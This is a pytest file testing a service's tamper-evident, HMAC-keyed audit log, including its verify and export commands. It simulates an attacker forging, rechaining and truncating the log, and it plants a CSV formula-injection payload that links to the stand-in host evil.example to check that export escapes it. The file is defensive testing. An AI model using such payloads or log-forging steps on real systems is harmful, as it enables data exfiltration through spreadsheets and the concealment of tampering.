"""The keyed, hash-chained audit log: written by every step, verified and exported by the CLI,
and tried as an attacker who can write the database but does not hold the key would."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import create_async_engine

from service.app import create_app, ensure_audit_key
from service.audit import AuditKeyError, event_hash
from service.config import Settings
from service.scopes import Scope
from service.store import tables as t

from .conftest import AUDIT_KEY, Service, StartService, email_action
from .peers.smtp import SmtpServer

FIXTURE = Path(__file__).parent / "fixtures" / "upgrade" / "main-3f47b68.sqlite"
sqlite_only = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)


def cli(db_url: str, *args: str, key: str | None = AUDIT_KEY) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("COUNTERSIGN_")}
    env["COUNTERSIGN_DATABASE_URL"] = db_url
    if key is not None:
        env["COUNTERSIGN_AUDIT_KEY"] = key
    return subprocess.run([sys.executable, "-m", "service", *args], env=env, capture_output=True, text=True, timeout=60)


async def _flow(service: Service, requested_by: str = "ops-bot") -> None:
    for decision, final in (({"decision": "approve", "reviewer": {"id": "rita"}}, "completed"),
                            ({"decision": "reject", "reviewer": {"id": "sam"}, "reason": "wrong tone"}, "rejected")):
        accepted = await service.create_run({"action": email_action(), "requested_by": requested_by})
        approval_id = (await service.run(accepted["id"]))["approvals"][0]["id"]
        await service.decide(approval_id, decision)
        await service.wait_status(accepted["id"], final)


Rows = list[dict[str, Any]]


async def _rewrite(url: str, change: Callable[[Rows], Rows]) -> None:
    """What an attacker with write access does: read every event, change them, write them back."""
    engine = create_async_engine(url)
    try:
        async with engine.begin() as conn:
            rows = [dict(r._mapping) for r in (await conn.execute(
                sa.select(t.audit_events).order_by(t.audit_events.c.seq))).all()]
            rows = change(rows)
            await conn.execute(t.audit_events.delete())
            await conn.execute(t.audit_events.insert(), rows)
            last = rows[-1]
            await conn.execute(t.audit_head.update().values(seq=last["seq"], hash=last["hash"], alg=last["alg"]))
    finally:
        await engine.dispose()


def _rechain_legacy(rows: Rows, start: int = 0) -> Rows:
    """Recompute every hash from `start` on with the only rule computable without the key."""
    prev = rows[start - 1]["hash"] if start else "0" * 64
    for r in rows[start:]:
        r["prev_hash"], r["alg"] = prev, None
        r["hash"] = prev = event_hash(prev, r["seq"], r["at"], r["run_id"], r["kind"], r["actor"], r["data"])
    return rows


async def test_verify_and_export(service: Service, tmp_path: Path) -> None:
    await _flow(service)
    url = service.settings.effective_database_url
    result = cli(url, "audit", "verify")
    assert result.returncode == 0, result.stderr
    count = int(result.stdout.split(": ")[1].split()[0])
    assert count >= 9 and "(0 legacy," in result.stdout

    out = tmp_path / "audit.jsonl"
    assert cli(url, "audit", "export", "--format", "jsonl", "-o", str(out)).returncode == 0
    events = [json.loads(line) for line in out.read_text().splitlines()]
    assert [e["seq"] for e in events] == list(range(1, count + 1))
    assert all(events[i]["prev_hash"] == events[i - 1]["hash"] for i in range(1, count))
    assert events[0]["kind"] == "audit.keyed" and events[0]["data"] == {"alg": "hmac-sha256", "legacy_events": 0}
    assert {e["alg"] for e in events} == {"hmac-sha256"}
    assert {"run.created", "decision.approve", "decision.reject", "delivery.sent"} <= {e["kind"] for e in events}

    exported = cli(url, "audit", "export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert [int(r["seq"]) for r in rows] == list(range(1, count + 1)) and rows[-1]["hash"] == events[-1]["hash"]

    assert cli(url, "audit", "verify", key=None).returncode == 2  # no key: cannot say it is intact
    wrong = cli(url, "audit", "verify", key="another-key-of-the-same-length-0123456789")
    assert wrong.returncode == 1 and "different COUNTERSIGN_AUDIT_KEY" in wrong.stderr


@sqlite_only
async def test_csv_cells_cannot_start_formulas(service: Service) -> None:
    # Actors are credentials now, but a decide key's reviewer is free text an admin typed in.
    formula = '=HYPERLINK("http://evil.example/x"&A1,"click")'
    await _flow(service, requested_by=formula)
    key = await service.make_key("sheet", Scope.DECIDE, reviewer=formula)
    accepted = await service.create_run({"action": email_action()})
    approval_id = (await service.run(accepted["id"]))["approvals"][0]["id"]
    status, _ = await service.decide(approval_id, {"decision": "approve"}, auth=key)
    assert status == 200
    url = service.settings.effective_database_url
    exported = cli(url, "audit", "export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    actors = {r["actor"] for r in rows if r["kind"] == "decision.approve" and r["run_id"] == accepted["id"]}
    assert actors == {"'" + formula}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    from service.cli import csv_cell
    assert [csv_cell(v) for v in ("+1", "-2", "@SUM(A1)", "\tx", "\rx", "\uff1d1", "ok", None, 5)] == \
        ["'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "'\uff1d1", "ok", "", "5"]


async def test_rewriting_without_the_key_is_detected(service: Service) -> None:
    await _flow(service)
    url = service.settings.effective_database_url

    def forge(rows: Rows) -> Rows:  # change one event, recompute every hash after it
        rows[3]["data"] = {**rows[3]["data"], "approval_id": "forged"}
        return _rechain_legacy(rows, 3)

    await _rewrite(url, forge)
    result = cli(url, "audit", "verify")
    assert result.returncode == 1 and "BROKEN at event 4" in result.stderr and "relabelled" in result.stderr


@sqlite_only  # the rules are the database's no matter which; the CLI calls are slow on a loaded machine
async def test_relabelling_the_whole_chain_as_legacy_is_detected(service: Service) -> None:
    await _flow(service)
    url = service.settings.effective_database_url
    def relabel(rows: Rows) -> Rows:  # drop the marker, renumber, recompute with the legacy rule
        kept = [r for r in rows if r["kind"] != "audit.keyed"]
        return _rechain_legacy([{**r, "seq": i + 1} for i, r in enumerate(kept)])

    await _rewrite(url, relabel)
    result = cli(url, "audit", "verify")
    assert result.returncode == 1 and "no audit.keyed marker" in result.stderr


async def test_a_changed_keyed_event_is_detected(service: Service) -> None:
    await _flow(service)
    url = service.settings.effective_database_url

    def forge(rows: Rows) -> Rows:
        rows[4]["actor"] = "ceo@example.com"
        return rows

    await _rewrite(url, forge)
    result = cli(url, "audit", "verify")
    assert result.returncode == 1 and "BROKEN at event 5" in result.stderr and "altered" in result.stderr


async def test_deleting_the_tail_is_detected(service: Service) -> None:
    await _flow(service)
    url = service.settings.effective_database_url
    engine = create_async_engine(url)
    try:
        async with engine.begin() as conn:
            last = (await conn.execute(sa.select(sa.func.max(t.audit_events.c.seq)))).scalar_one()
            await conn.execute(t.audit_events.delete().where(t.audit_events.c.seq == last))
    finally:
        await engine.dispose()
    result = cli(url, "audit", "verify")
    assert result.returncode == 1 and "tail removed" in result.stderr


@sqlite_only
async def test_an_anchored_head_detects_a_dropped_tail_with_a_moved_head(service: Service) -> None:
    await _flow(service)
    url = service.settings.effective_database_url
    anchor = cli(url, "audit", "head").stdout.strip()
    seq, digest = anchor.split(":")
    assert int(seq) >= 9 and len(digest) == 64
    await _flow(service)  # the chain grows past the anchor: still fine
    ok = cli(url, "audit", "verify", "--expect-head", anchor)
    assert ok.returncode == 0, ok.stderr

    # Drop everything from the anchor's event on, and move the head back: the database
    # alone cannot tell (every remaining MAC is genuine), the anchor can.
    await _rewrite(url, lambda rows: rows[:int(seq) - 1])
    assert cli(url, "audit", "verify").returncode == 0
    result = cli(url, "audit", "verify", "--expect-head", anchor)
    assert result.returncode == 1 and "past the end of the chain" in result.stderr
    assert cli(url, "audit", "verify", "--expect-head", "nonsense").returncode == 2


@sqlite_only
async def test_legacy_events_are_anchored_by_the_marker(start_service: StartService, smtp_server: SmtpServer,
                                                        db_url: str) -> None:
    shutil.copyfile(FIXTURE, db_url.removeprefix("sqlite+aiosqlite:///"))
    service = await start_service(smtp_server)  # migrates, then keys the chain
    url = service.settings.effective_database_url
    result = cli(url, "audit", "verify")
    assert result.returncode == 0 and "(24 legacy," in result.stdout, result.stderr

    def forge(rows: Rows) -> Rows:  # rewrite a legacy event and the legacy hashes after it
        rows[2]["actor"] = "ceo@example.com"
        legacy = _rechain_legacy(rows[:24], 2)
        rows[24]["prev_hash"] = legacy[-1]["hash"]  # the marker's MAC covers the old value
        return legacy + rows[24:]

    await _rewrite(url, forge)
    result = cli(url, "audit", "verify")
    assert result.returncode == 1 and "BROKEN at event 25" in result.stderr


async def test_postgres_needs_the_key_and_every_process_the_same_one(
        start_service: StartService, db_url: str, tmp_path: Path) -> None:
    first = await start_service()  # keys the chain with AUDIT_KEY
    assert first.stop is not None
    await first.stop()
    if db_url.startswith("postgresql"):
        with pytest.raises(AuditKeyError, match="required with PostgreSQL"):
            create_app(Settings(database_url=db_url, api_token="x" * 32, audit_key=None))
    with pytest.raises(AuditKeyError, match="at least 32"):
        ensure_audit_key(Settings(database_url=db_url, audit_key="short"))
    with pytest.raises(AuditKeyError, match="not the key this audit log was keyed with"):
        await start_service(audit_key="another-key-of-the-same-length-0123456789")


async def test_embedded_key_is_generated_private(tmp_path: Path) -> None:
    settings = ensure_audit_key(Settings(data_dir=tmp_path / "d", audit_key=None))
    path = tmp_path / "d" / "audit-key"
    assert path.stat().st_mode & 0o777 == 0o600
    assert settings.audit_key is not None and settings.audit_key.get_secret_value() == path.read_text().strip()
    assert ensure_audit_key(Settings(data_dir=tmp_path / "d", audit_key=None)).audit_key == settings.audit_key
